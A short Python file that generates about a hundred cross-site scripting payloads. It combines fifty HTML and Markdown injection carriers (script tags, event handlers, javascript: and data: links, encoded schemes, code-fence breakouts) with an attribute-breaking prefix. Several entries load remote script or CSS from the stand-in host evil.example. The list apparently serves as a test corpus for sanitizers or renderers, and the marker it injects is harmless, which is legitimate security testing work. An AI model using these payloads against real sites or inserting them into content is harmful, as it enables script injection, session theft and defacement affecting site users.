"""A hundred ways to smuggle a script into a text."""

import itertools

RUN = "window.hit=1"
_CARRIERS = [
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<svg/onload={run}>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    '<img src=x onerror="{run}"//',
    "<body onload={run}>",
    "<iframe src=javascript:{run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<math><mi//xlink:href='data:x,<script>{run}</script>'>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<a href=javascript:{run}>x</a>",
    "<a href='&#106;avascript:{run}'>x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<x onclick={run} style=position:fixed;inset:0>x</x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](&#x6A;avascript:{run})",
    "[x](java\tscript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](vbscript:{run})",
    "![x](javascript:{run})",
    '![x](x"onerror="{run})',
    "[x]: javascript:{run}\n\n[x]",
    "<javascript:{run}>",
    '<https://x"onmouseover="{run}>',
    '```html"><script>{run}</script>\nx\n```',
    "```\n</code></pre><script>{run}</script>\n```",
    "`</code><script>{run}</script>`",
    "| a |\n|---|\n| <img src=x onerror={run}> |",
    "# <img src=x onerror={run}>",
    "> <script>{run}</script>",
    "- <svg onload={run}>",
]
# Each alone, and each breaking out of a quoted attribute or an element that holds text.
PAYLOADS = [
    prefix + carrier.replace("{run}", RUN)
    for carrier, prefix in itertools.product(_CARRIERS, ("", "\"'></textarea></title></script>"))
]
